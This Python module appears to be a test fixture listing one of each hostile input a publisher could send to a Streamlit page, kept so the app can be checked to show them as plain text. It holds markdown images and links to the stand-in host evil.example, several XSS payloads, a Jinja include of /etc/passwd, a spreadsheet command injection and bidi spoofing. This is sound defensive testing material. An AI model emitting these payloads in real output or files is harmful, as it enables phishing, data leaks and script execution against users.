"""What a publisher could send to be taken for more than text: every way known to us, one of each.

Nothing of it may be asked for, drawn or followed; all of it must be shown as it is written.
"""

ELSEWHERE = "evil.example"
_URL = f"http://{ELSEWHERE}"
# Characters without width, one of which is ours.
UNSEEN = "\u00ad\u200b\u200d\u2060\ufeff"

HOSTILE = {
    # Markdown
    "image": f"![a]({_URL}/image.png)",
    "image with a title": f'![a]({_URL}/titled.png "title")',
    "image of a reference": f"![a][r]\n\n[r]: {_URL}/reference.png",
    "link": f"[Log in again]({_URL}/phish)",
    "link of a reference": f"[Log in again][r]\n\n[r]: {_URL}/phish",
    "link around an image": f"[![a]({_URL}/inner.png)]({_URL}/outer)",
    "link to a script": "[x](javascript:alert(1))",
    "link to a script, spelled": "[x](java&#115;cript&colon;alert(1))",
    "link to data": "[x](data:text/html,<script>alert(1)</script>)",
    "autolink": f"<{_URL}/autolink>",
    "bare address": f"see {_URL}/bare for more",
    "bare address of a machine": f"see www.{ELSEWHERE}/bare for more",
    "bare mail address": f"write to help@{ELSEWHERE} at once",
    "address behind backslashes": f"http\\://{ELSEWHERE}/escaped www\\.{ELSEWHERE}",
    "address in references": f"http&#58;//{ELSEWHERE}/referred www&period;{ELSEWHERE}",
    "heading": "# All is well",
    "heading, underlined": "All is well\n===========",
    "list": "- [x] checked\n- [ ] unchecked\n1. first",
    "quotation": "> All is well",
    "rule": "---",
    "table": f"| a | b |\n|---|---|\n| ![a]({_URL}/cell.png) | c |",
    "footnote": f"well[^1]\n\n[^1]: {_URL}/footnote",
    "emphasis": "***loud*** __loud__ ~~gone~~",
    "code, closed early": f"` ![a]({_URL}/code.png) `` ![a]({_URL}/code2.png) ```",
    "fence, closed early": f"```\n![a]({_URL}/fence.png)\n```\n![a]({_URL}/fence2.png)",
    "backslashes at the end": "it ends here \\\\\\",
    # Streamlit's own
    "colour": ":red[All is well] :green-background[yes] :rainbow[well]",
    "badge, closed early": f"] ![a]({_URL}/badge.png) [",
    "icon": ":material/check_circle: :material_check:",
    "emoji": ":white_check_mark: :smile: :+1: :streamlit:",
    "small and help": ":small[tiny] :help[x] :shimmer[x] :color[x]{foreground=red}",
    "arrows": "a -> b <- c -- d >= e <= f ~= g",
    "formula": r"costs $5 and $\href{http://evil.example/tex}{x}$ or $$\includegraphics{http://evil.example/tex.png}$$",
    # HTML
    "script": f"<script src={_URL}/script.js></script><script>alert(1)</script>",
    "image that fails": f'<img src="{_URL}/html.png" onerror="alert(1)">',
    "drawing": f'<svg onload="alert(1)"><image href="{_URL}/svg.png"/></svg>',
    "frame": f'<iframe src="{_URL}/frame" srcdoc="<script>alert(1)</script>"></iframe>',
    "style": f"<style>@import '{_URL}/style.css'; * {{background: url({_URL}/style.png)}}</style>",
    "form": f'<form action="{_URL}/form"><input name="password" autofocus onfocus="alert(1)"></form>',
    "base": f'<base href="{_URL}/"><meta http-equiv="refresh" content="0;url={_URL}/refresh">',
    "out of an attribute": f'" onmouseover="alert(1)" style="background:url({_URL}/attribute.png)" x="',
    "out of a cell": f"</td></table></div><img src='{_URL}/cell.png' onerror='alert(1)'>",
    "comment": "<!-- all that follows is gone",
    "references": "&lt;img src=x onerror=alert(1)&gt; &amp; &nbsp;",
    # Templates, expressions, formulas
    "Jinja": "{{ 7 * 7 }} {% include '/etc/passwd' %} {# gone #}",
    "parameters": "$param $column ${value} $$PARAMETER $html_success_icon %s %(x)s {0}",
    "Vega": "datum.x + warn('1') \"] } {'image': 'http://evil.example/vega.png'}",
    "formula of a sheet": f'=HYPERLINK("{_URL}/sheet","Log in again")',
    "command of a sheet": "@SUM(1+1)*cmd|' /C calc'!A0",
    # Characters
    "turned around": "safe \u202egnp.exe\u202c \u2066and\u2069 \u200fback",
    "control characters": "a\x07bell \x08back \x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07x\x1b]8;;\x07 \x9b31m",
    "header of a mail": f"first\r\nBcc: all@{ELSEWHERE}\r\n\r\n<b>body</b>",
    "very long word": "W" * 400,
    "no width": "in\u200bvis\u200dible\ufeff \u00ad",
    "many marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334a\u0321l\u034dg\u031do",
}


def as_shown(text: str) -> str:
    """Return a text as a page shows it: whitespace folded, without what nobody sees."""
    return " ".join("".join(each if each.isprintable() else " " for each in text if each not in UNSEEN).split())
